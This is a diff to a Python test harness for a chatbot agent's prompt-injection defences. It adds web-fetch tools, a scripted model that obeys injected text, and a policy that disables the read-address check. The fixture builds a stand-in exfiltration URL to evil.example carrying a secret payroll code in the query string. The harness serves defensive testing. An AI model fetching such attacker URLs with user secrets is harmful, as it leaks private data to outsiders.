@@ -28,22 +28,31 @@ from agent.tools.share_file import ShareFileTool
 from agent.turn import Turn, TurnLimits
 from bot.access.acl import AccessRules
 from bot.access.admission import AdmissionRules
+from bot.attachments.reader import Reader
 from bot.attachments.reading import FETCH_S, AttachmentReader
 from bot.hosting import BotHost
 from bot.turns.approvals import ApprovalPolicy
 from bot.turns.runner import AgentConfig, TurnRunner
 from bot.turns.worker import Turns
+from bot.web.fetching import Fetcher, FetchLimits
+from bot.web.guard import WebGuard
+from bot.web.page_text import PageReader
+from bot.web.web_tools import WebFetchTool, page_cache
 from store.databases.database import LocalNotifier
 from tests.fakes.fast_clock import MovedClock
 from tests.fakes.hosts import connections_of, host_on
 from tests.fakes.minds import always
 from tests.fakes.store import StoreInMemory
 from tests.fakes.turns_host import AT_ONCE
+from tests.fakes.web_world import WebWorld
 from tests.injection.attempts import Attempt, Goal, Mechanism
+from tests.patience import PATIENCE_S
 
 SECRET: Final = "heron4711"
 LOOKED_UP: Final = f"The payroll code is {SECRET}."
-EVIL: Final = "https://evil.example"
+EVIL_HOST: Final = "evil.example"
+EVIL: Final = f"https://{EVIL_HOST}"
+PAGE: Final = "http://page.example/"
 KNOWN_WORD: Final = "w0rd"
 _SECTION: Final = re.compile(r"^\[system (\w+)\]$", re.MULTILINE)
 
@@ -103,8 +112,9 @@ class Puppet:
         if not self.obeys or not self._believes(said):
             return calls_of(*self.opening) if self.opening and not rounds else idle
         self.has_obeyed = True
-        if self.calls and not any(f'"name": "{self.calls[0][0]}"' in one.text for one in here):
-            return calls_of(*self.calls)
+        done = EVIL_HOST if self.attempt.goal is Goal.FETCH else f'"name": "{self.calls[0][0]}"' if self.calls else ""
+        if self.calls and not any(done in one.text for one in here if one.role is Role.ASSISTANT):
+            return calls_of(*self.calls).replace("SEEN", SECRET)
         return words
 
     def _believes(self, said: Sequence[str]) -> bool:
@@ -156,8 +166,26 @@ class Trusting(ApprovalPolicy):
         limits: TurnLimits,
         progress: Progress,
         words: Callable[[], Provenance],  # noqa: ARG002 -- that is what is switched off
+        texts: Callable[[], Sequence[str]] = tuple,
     ) -> tuple[Turn, CallGate]:
-        return await super().turn(claim, asker, tools, limits, progress, lambda: Provenance.OWN)
+        return await super().turn(claim, asker, tools, limits, progress, lambda: Provenance.OWN, texts)
+
+
+class Believing(ApprovalPolicy):
+    """Takes the very address that is asked for as one that was read."""
+
+    async def turn(
+        self,
+        claim: Claim,
+        asker: Asker,
+        tools: Registry,
+        limits: TurnLimits,
+        progress: Progress,
+        words: Callable[[], Provenance],
+        texts: Callable[[], Sequence[str]] = tuple,
+    ) -> tuple[Turn, CallGate]:
+        read = [f"http://{EVIL_HOST}/?q={SECRET}"]
+        return await super().turn(claim, asker, tools, limits, progress, words, lambda: [*read, *texts()])
 
 
 @dataclass
@@ -173,6 +201,7 @@ class Bot:
     others: list[Tooled] = field(default_factory=list[Tooled])
     """Of a server that the operator named later."""
     instructions: str = ""
+    web: WebWorld | None = None
 
     def __post_init__(self) -> None:
         self.model = ScriptedProvider(self.puppet)
@@ -186,11 +215,12 @@ class Bot:
             memories = knowledge = AllOfIt(store)
         remember = Credulous(store.facts) if off is Mechanism.OWN_WORDS else RememberTool(store.facts)
         rows = [PolicyRow("act", "*", "*", PolicyAnswer.YES)] if self.attempt.goal is Goal.ACT_LATER else []
-        deciding = Trusting if off is Mechanism.PROVENANCE else ApprovalPolicy
+        others = {Mechanism.PROVENANCE: Trusting, Mechanism.READ_ADDRESS: Believing}
+        deciding = ApprovalPolicy if off is None else others.get(off, ApprovalPolicy)
         policy = None if off is Mechanism.EFFECT else deciding(store.consents, self.clock, rows)
         own = FixedTools(tuple(self.tools))
         other = FixedTools(tuple(self.others))
-        core: list[Tool] = [RecallTool(memories), remember, ShareFileTool()]
+        core: list[Tool] = [RecallTool(memories), remember, ShareFileTool(), *self._web_tools()]
         sources = [own, other]
         if off is Mechanism.TAKEN_NAME:
             core, sources = [tool for tool in core if tool.name != self.attempt.text], [other, own]
@@ -213,6 +243,14 @@ class Bot:
         turns = Turns(store.ledger, thinking, connections.surface_for, LocalNotifier(), self.clock, "process", AT_ONCE)
         access = AccessRules(open_to=frozenset(Authority))
         return host_on(store, turns, connections, self.clock, AdmissionRules(access))
+
+    def _web_tools(self) -> list[Tool]:
+        if self.web is None:
+            return []
+        limits = FetchLimits(PATIENCE_S, PATIENCE_S)
+        net = (self.web.resolve, self.web.dial)
+        fetcher = Fetcher(WebGuard(), "Test/1", self.clock, *net, robots=False, limits=limits)
+        return [WebFetchTool(fetcher, PageReader(Reader()), page_cache(self.clock), PATIENCE_S)]
 
     async def _every_group(self, place: Place) -> frozenset[str]:
         groups = await self.store.conversations.groups(label(place.audience).partition(":")[2], limit=99)
